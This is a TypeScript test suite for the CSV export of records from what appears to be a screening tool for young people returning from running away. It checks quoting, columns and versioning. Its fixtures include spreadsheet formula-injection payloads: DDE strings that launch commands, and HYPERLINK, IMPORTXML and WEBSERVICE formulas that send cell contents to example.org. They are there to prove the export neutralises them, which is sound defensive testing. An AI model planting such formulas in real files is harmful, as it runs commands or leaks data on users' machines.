import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { accountKey, hasText, type Account, type Answers } from '../../src/instrument/account.ts';
import { RecordError } from '../../src/instrument/problems.ts';
import { createRecord } from '../../src/record/record.ts';
import { sealRecord } from '../../src/record/fingerprint.ts';
import { accountsToCSV } from '../../src/record/csv/accounts-table.ts';
import { csvTable, csvQuestions, toCSV } from '../../src/record/csv/to-csv.ts';
import { anyAnswers } from '../assessment/arbitraries.ts';
import { smallInstrument } from '../instrument/small.ts';
import { runs } from '../runs.ts';
import { begin, english, meet, prepare, questions, returnFromRun } from '../screening/helpers.ts';
import { accountsOf, listIn, readCells, readRows } from './csv-reading.ts';
import { recordFor, toResult } from './fhir-records.ts';
import { recordOf as recordIn } from './record-of.ts';

const recordOf = (answers: Answers, instrument = returnFromRun, header = {}) => recordIn(answers, instrument, header);
const at = '2026-11-20T10:00:00Z';
const said = (value: Account['value'], more: Partial<Account> = {}): Account[] => [
  { source: 'youth', response: 'given', value, at, ...more },
];
const wishing = (text: string) => recordOf({ next: said(text) });
const cellOf = (text: string) => {
  const [names, cells] = readCells(toCSV([wishing(text)]));
  return cells![names!.indexOf('next.youth')]!;
};

/** What must not reach a spreadsheet as it is: most from public lists of formula injection. */
const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '   =1+1',
  '\u00A0=1+1',
  '\u200B=1+1',
  '\u202E=1+1',
  '\uFEFF=1+1',
  '\u0000=1+1',
  '\u3000＝1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1+1)',
  '"=1+1',
  '""=1+1',
  '=HYPERLINK("http://example.org?x="&A1,"click")',
  "=cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '=IMPORTXML(CONCAT("http://example.org/?v=",A1),"//a")',
  '=WEBSERVICE("http://example.org/"&A1)',
  '+1-555-0100',
  "'=1+1",
  "' =1+1",
];
const mistaken = ['2-4', '1/2', '2026-04', '4-5-2026', '007', '12e4', '12345678901234567', '2E+3'];
const awkward = [
  'He said "no", twice, and left; then:\r\n- a car\n- "=1+1"\ttab',
  'a | b: c \\ d',
  'ends in \\',
  '#declined',
  '##',
  "'",
  "''quoted''",
  "fish;'n'chips",
  '👩‍👧 ¿Estás bien? شكرا \u200Fאין',
  ' blank at both ends ',
  '?',
  '-5',
  '-5.5',
  '0',
];

describe('Every cell of a CSV file', () => {
  it.each([...formulas, ...mistaken])('is harmless in a spreadsheet: %j', (text) => {
    expect(cellOf(text)).toMatch(/^'/);
    expect(readRows(toCSV([wishing(text)]))[0]!['next.youth']).toBe(text);
  });

  it.each(['-5', '-12.5', '5', '2026-041', 'C-17', 'a=b', 'well - yes', '2026-11-20T10:00:00.000Z', '', 'x@y'])(
    'is left as it is where it is harmless: %j',
    (text) => {
      const [names, cells] = readCells(toCSV([recordOf({}, returnFromRun, { caseReference: text })]));
      expect(cells![names!.indexOf('caseReference')]).toBe(text);
    },
  );

  it.each(['one;=1+1', 'one\n=1+1', 'one\r\n  @SUM(1)', 'one\t-1+1', 'one;"=1+1"', 'one;\u200B＝1'])(
    'is harmless too where the spreadsheet takes another sign for the separator: %j',
    (text) => {
      for (const cell of cellOf(text).split(/[;\t\r\n]/)) expect(cell).not.toMatch(/^[\s"\u200B]*[=+\-@＝]/);
    },
  );

  it('stays harmless however it is composed', () => {
    const sign = fc.constantFrom(...Array.from('=+-@＝＋－＠\'" \t\r\n;,#|\\:\u200B\u3000a1'));
    fc.assert(
      fc.property(fc.string({ unit: sign, minLength: 1, maxLength: 12 }).filter(hasText), (text) => {
        const cell = cellOf(text);
        if (!/^-\d+$/.test(cell)) expect(cell).not.toMatch(/^[\s\p{Cf}"]*[=+\-@＝＋－＠]|^[\t\r\n]/u);
        expect(readRows(toCSV([wishing(text)]))[0]!['next.youth']).toBe(text.replace(/^#/, '##'));
      }),
      { numRuns: runs(75, 2000), seed: 1 },
    );
  });

  it('is read in a time that grows with its length alone', () => {
    // Where the time grew with the square of it, this would take hours.
    const long = ' \u200B;\n"'.repeat(200_000);
    expect(cellOf(`${long}x`)).toContain('x');
  });
});

describe('The file', () => {
  const listed = [wishing('Home,\n"or" not'), recordOf({})];
  const file = toCSV(listed);

  it('marks itself as UTF-8, and ends every row as RFC 4180 says', () => {
    expect(file.startsWith('\uFEFFcaseReference,')).toBe(true);
    expect(file.endsWith('\r\n')).toBe(true);
    expect(file.split('\r\n')).toHaveLength(4);
    expect(file).toContain('"Home,\n""or"" not"');
  });

  it('has as many cells in every row as there are columns', () => {
    const [names, ...rows] = readCells(file);
    expect(new Set(names).size).toBe(names!.length);
    for (const row of rows) expect(row).toHaveLength(names!.length);
  });

  it('is the same for the same records, and has the same columns whatever was said', () => {
    const talks = [prepare(), meet({ path: 'short' }).say('leave', 'no'), begin().say('age', 9)];
    const heads = talks.map(({ talk }) => toCSV([createRecord(talk, english)]).split('\r\n')[0]);
    expect(new Set([...heads, toCSV([]).split('\r\n')[0]]).size).toBe(1);
    const record = wishing('Home');
    expect(toCSV([record])).toBe(toCSV([record]));
  });

  it('can be made row by row', () => {
    const { head, row } = csvTable();
    expect(head + listed.map(row).join('')).toBe(file);
  });
});

describe('A row', () => {
  const anyText = fc.oneof(
    fc.constantFrom(...formulas, ...mistaken, ...awkward),
    fc.string({ unit: 'grapheme', minLength: 1 }).filter(hasText),
    fc.string({ unit: 'binary', minLength: 1 }).filter(hasText),
  );
  /** Any answers, with anything where there is text. */
  const anyTalk = anyAnswers.chain((answers) =>
    fc.infiniteStream(anyText).map((texts): Answers => {
      const text = () => texts.next().value as string;
      const told = (account: Account, code: string): Account => ({
        ...account,
        ...(account.who !== undefined && { who: `${text()}${account.who}` }),
        ...(account.note !== undefined && { note: text() }),
        ...(account.value !== undefined && questions.get(code)!.answer === 'text' && { value: text() }),
      });
      return Object.fromEntries(
        Object.entries(answers).map(([code, list]) => [code, list.map((account) => told(account, code))]),
      );
    }),
  );

  it('has every account of every question: who, what or why not, and the note', () => {
    fc.assert(
      fc.property(fc.array(anyTalk, { minLength: 1, maxLength: 3 }), (talks) => {
        const rows = readRows(toCSV(talks.map((answers) => recordOf(answers))));
        expect(rows.map((row) => sorted(accountsOf(row, returnFromRun)))).toEqual(talks.map(sorted));
      }),
      { numRuns: runs(10, 240), seed: 2 },
    );
  });

  it('has a standing for every question, and distinguishes not asked from not answered', () => {
    const held = meet({ path: 'short' }).say('leave', 'no').say('held', 'phone').say('leave', 'yes');
    held.send({ type: 'decline', question: 'mood', response: 'declined' });
    const record = createRecord(held.talk, english);
    const [row] = readRows(toCSV([record]));
    for (const { code, standing } of record.topics.flatMap((topic) => topic.questions))
      expect(row![`${code}.standing`]).toBe(standing);
    expect(row).toMatchObject({ 'held.standing': 'hidden', 'held.youth': 'phone' });
    expect(row).toMatchObject({ 'mood.standing': 'offered', 'mood.youth': '#declined' });
    expect(row).toMatchObject({ 'body.standing': 'offered', 'body.youth': '' });
    expect(row!['gang.standing']).toBe('off-path');
  });

  it('has several tellers side by side', () => {
    const told = (who: string | undefined, value: string[]): Account => ({
      ...said(value, { source: 'other', ...(who && { who }) })[0]!,
      ...(who && { note: 'So they say.' }),
    });
    const [row] = readRows(toCSV([recordOf({ slept: [told(undefined, ['car']), told('aunt', ['hotel', 'car'])] })]));
    expect(row!['slept.other']).toBe('?: car | aunt: hotel;car');
    expect(row!['slept.notes']).toBe('other aunt: So they say.');
  });

  it('has the head of the record', async () => {
    const held = begin()
      .say('age', 15)
      .say('hurt', 'hurt')
      .send(
        { type: 'result' },
        { type: 'raise', level: 'act-now', reason: '=A car, "outside"' },
        { type: 'done', step: 'papers', points: ['document', 'on-file'], state: 'done' },
        { type: 'plan', text: 'Call,\nthen visit.' },
        { type: 'finish' },
      );
    const header = { caseReference: '2026-041', worker: 'worker 12', agency: 'Harbor; County' };
    const record = await sealRecord(createRecord(held.talk, english, header));
    const [done] = record.stepsDone;
    expect(readRows(toCSV([record]))[0]).toMatchObject({
      ...header,
      instrument: 'return-from-run',
      version: returnFromRun.version,
      language: 'en',
      path: 'full',
      settings: expect.stringContaining('adultFrom=18'),
      startedAt: record.sessions[0]!.startedAt,
      completedAt: record.completedAt,
      sessions: '1',
      'level.computed': record.level.computed,
      'level.final': 'act-now',
      'level.raised': '=A car, "outside"',
      flags: record.assessment.flags.map(({ code }) => code).join(';'),
      stepsDone: `papers/document+on-file:done@${done!.at}`,
      plan: 'Call,\nthen visit.',
      amendments: '0',
      fingerprint: record.fingerprint,
    });
  });

  it('has what was suggested, by step, point and band', () => {
    const record = createRecord(begin().say('age', 15).say('safe', 'not-safe').talk, english);
    const suggested = readRows(toCSV([record]))[0]!['steps']!.split(';');

    expect(suggested).toHaveLength(record.assessment.steps.length);
    expect(suggested[0]).toBe('stay/stay-with-them+secure-the-place+ask-danger:now');
    expect(suggested.at(-1)).toMatch(/^papers\/.*\+picture-updated:/);
  });

  it('has the days of this time away, where both ends are known', () => {
    const away = (...ends: [string, string][]) =>
      readRows(
        toCSV([recordOf(Object.fromEntries(ends.map(([code, value]) => [code, said(value, { source: 'record' })])))]),
      )[0];

    expect(away(['missing-since', '2026-11-16'], ['returned-at', '2026-11-20T01:30-05:00'])).toMatchObject({
      daysAway: '4',
      'missing-since.record': '2026-11-16',
      'returned-at.record': '2026-11-20T01:30-05:00',
    });
    expect(away(['missing-since', '2026-11-16'])).toMatchObject({ daysAway: '' });
    expect(away(['missing-since', '2026-11-20'], ['returned-at', '2026-11-16'])).toMatchObject({ daysAway: '' });
  });

  it('has all that is noted of each call and act, in their order', () => {
    const called = { type: 'done', step: 'police', contact: 'police', points: ['police-back'] } as const;
    const held = begin().send(
      { type: 'result' },
      { ...called, state: 'not-reached' },
      { ...called, state: 'done', with: 'Officer; desk', reference: '=24-118', note: 'Back \\ soon;\nthen done.' },
      { type: 'finish' },
      { type: 'done', step: 'papers', points: ['document'], state: 'done', reference: '007' },
    );
    const record = createRecord(held.talk, english);
    const [row] = readRows(toCSV([record]));
    const [tried, done, added] = record.stepsDone;

    expect(listIn(row!['stepsDone']!)).toEqual([
      `police/police-back:not-reached@${tried!.at}`,
      `police/police-back:done@${done!.at}`,
      `papers/document:done@${added!.at}`,
    ]);
    expect(listIn(row!['stepsDone.contact']!)).toEqual(['police', 'police', '']);
    expect(listIn(row!['stepsDone.with']!)).toEqual(['', 'Officer; desk', '']);
    expect(listIn(row!['stepsDone.reference']!)).toEqual(['', '=24-118', '007']);
    expect(listIn(row!['stepsDone.note']!)).toEqual(['', 'Back \\ soon;\nthen done.', '']);
    expect(listIn(row!['stepsDone.addedAt']!)).toEqual(['', '', added!.addedAt]);
    const bare = readRows(
      toCSV([createRecord(begin().send({ type: 'result' }, { ...called, state: 'done' }).talk, english)]),
    )[0]!;
    expect([bare['stepsDone.with'], bare['stepsDone.note'], bare['stepsDone.addedAt']]).toEqual(['', '', '']);
  });

  it('is blank where a talk has not begun, and says of each question that it was offered or why not', () => {
    const [row] = readRows(toCSV([createRecord(prepare().talk, english)]));
    expect(row).toMatchObject({ caseReference: '', completedAt: '', startedAt: '', sessions: '0', stepsDone: '' });
    expect(accountsOf(row!, returnFromRun)).toEqual({});
  });
});

describe('Records of several instruments', () => {
  const small = smallInstrument();
  const mixed = [recordOf({ leave: said('no') }), recordOf({ free: said('yes'), marks: said(['none']) }, small)];

  it('have the columns of all of them, in the order of first appearance', () => {
    const [names] = readCells(toCSV(mixed));
    const codes = names!.flatMap((name) => (name.endsWith('.standing') ? [name.slice(0, -9)] : []));
    expect(codes).toEqual([...new Set([...questions.keys(), ...csvQuestions(small)])]);
    const [first, second] = readRows(toCSV(mixed));
    expect(first).toMatchObject({ instrument: 'return-from-run', 'leave.youth': 'no' });
    expect(second).toMatchObject({ instrument: 'small', 'free.youth': 'yes', 'mood.standing': 'not-in-instrument' });
  });

  it('can be given their columns, and are refused where they have none', () => {
    const { row } = csvTable({ questions: [...csvQuestions(returnFromRun), ...csvQuestions(small)] });
    expect(mixed.map(row).join('')).toBe(toCSV(mixed).replace(/^.*?\r\n/, ''));
    const strict = csvTable({ questions: ['free', 'next', 'held'] });
    expect(() => strict.row(recordOf({}, small))).toThrow(RecordError);
    expect(() => strict.row(recordOf({}, small))).toThrow(/small 1\.0\.0 that have no columns: age, slept, marks/);
  });
});

function sorted(answers: Readonly<Record<string, readonly Omit<Account, 'at'>[]>>) {
  return Object.fromEntries(
    Object.entries(answers).map(([code, accounts]) => [
      code,
      accounts
        .map(({ source, who, response, value, note }) => ({ source, who, response, value, note }))
        .sort((left, right) => (accountKey(left) < accountKey(right) ? -1 : 1)),
    ]),
  );
}

describe('A screening of which there are several versions', () => {
  const held = meet().say('traded', 'yes');
  const provisional = recordFor(held);
  const finished = recordFor(toResult(held).send({ type: 'finish' }));
  const corrected = recordFor(
    toResult(held.send({ type: 'reopen', by: 'AB', reason: 'A slip.' }).say('traded', 'no')).send({
      type: 'finish',
    }),
  );
  const another = recordFor(meet().say('traded', 'no'));

  it.each([
    ['in order', [provisional, finished, another, corrected]],
    ['in any order', [corrected, provisional, another, finished]],
  ])('counts once, as it was last, %s', (_, versions) => {
    const rows = readRows(toCSV(versions));
    expect(rows.map((row) => row['id'])).toEqual([corrected.id, another.id]);
    expect(rows[0]).toMatchObject({
      amendments: '1',
      'traded.youth': 'no',
      asOf: corrected.history.at(-1)!.replacedAt,
    });
  });

  it('counts once in the table of accounts, too', () => {
    const rows = readRows(accountsToCSV([provisional, finished, another, corrected]));
    expect(rows.map(({ id, question, value }) => [id, question, value])).toEqual([
      [corrected.id, 'traded', 'no'],
      [another.id, 'traded', 'no'],
    ]);
  });

  it('can be distinguished from the others, where each has a row', () => {
    const { head, row } = csvTable();
    const rows = readRows(head + [provisional, finished, corrected].map(row).join(''));
    expect(new Set(rows.map(({ id }) => id)).size).toBe(1);
    const times = rows.map((cells) => Date.parse(cells['asOf']!));
    expect(times).toEqual([...new Set(times)].toSorted((left, right) => left - right));
  });
});
